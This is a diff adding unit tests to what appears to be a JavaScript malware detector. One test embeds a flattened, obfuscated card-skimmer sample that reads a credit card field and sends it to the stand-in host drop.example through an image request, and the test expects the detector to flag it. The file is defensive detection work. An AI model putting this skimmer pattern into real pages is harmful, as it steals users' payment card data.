@@ -61,6 +61,45 @@ public sealed class DecoderTests
         Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
     }
 
+    [Fact]
+    public void Flattened_code_is_followed_in_the_order_that_it_runs_in()
+    {
+        const string source = """
+            document.querySelector('#pay').addEventListener('click', function () {
+                var order = '5|4|3|2|1|0'.split('|'), step = 0;
+                while (true) {
+                    switch (order[step++]) {
+                        case '0': new Image().src = 'https://drop.example/x.gif?c=' + e; continue;
+                        case '1': var e = d; continue;
+                        case '2': var d = c; continue;
+                        case '3': var c = b; continue;
+                        case '4': var b = a; continue;
+                        case '5': var a = document.querySelector('#cc-number').value; continue;
+                    }
+                    break;
+                }
+            });
+            """;
+
+        Assert.Equal(VerdictKind.Malicious, VerdictOf(source));
+    }
+
+    [Theory]
+    [InlineData("function f(a){return a+1}", true)]
+    [InlineData("function f(a){if(a)return;for(;;){return g(a)}}", true)]
+    [InlineData("function f(a){return a?null:t[a]}", true)]
+    [InlineData("function f(a){return(a,!0)||a}", true)]
+    [InlineData("function f(a){switch(a){case 1:return typeof a}}", true)]
+    [InlineData("function f(a){try{a()}catch(e){return`${e}`}}", true)]
+    [InlineData("function f(a){return function(){return a}}", false)]
+    [InlineData("function f(a){return a===1||{}}", false)]
+    [InlineData("function f(a){var g=function(){return a};g()}", false)]
+    [InlineData("function f(a){return this.x(a)}", false)]
+    [InlineData("function f(a){return new Date(a)}", false)]
+    [InlineData("function*f(a){return a}", false)]
+    public void Only_functions_that_can_give_a_text_are_decoders(string function, bool may) =>
+        Assert.Equal(may, TextReturns.MayBeIn((Acornima.Ast.IFunction)ParsedScript.Parse(function).Program!.Body[0]));
+
     [Theory]
     [InlineData(DecoderFixtures.SkimmerInFoldedTable)]
     [InlineData(DecoderFixtures.SkimmerBehindWrappers)]
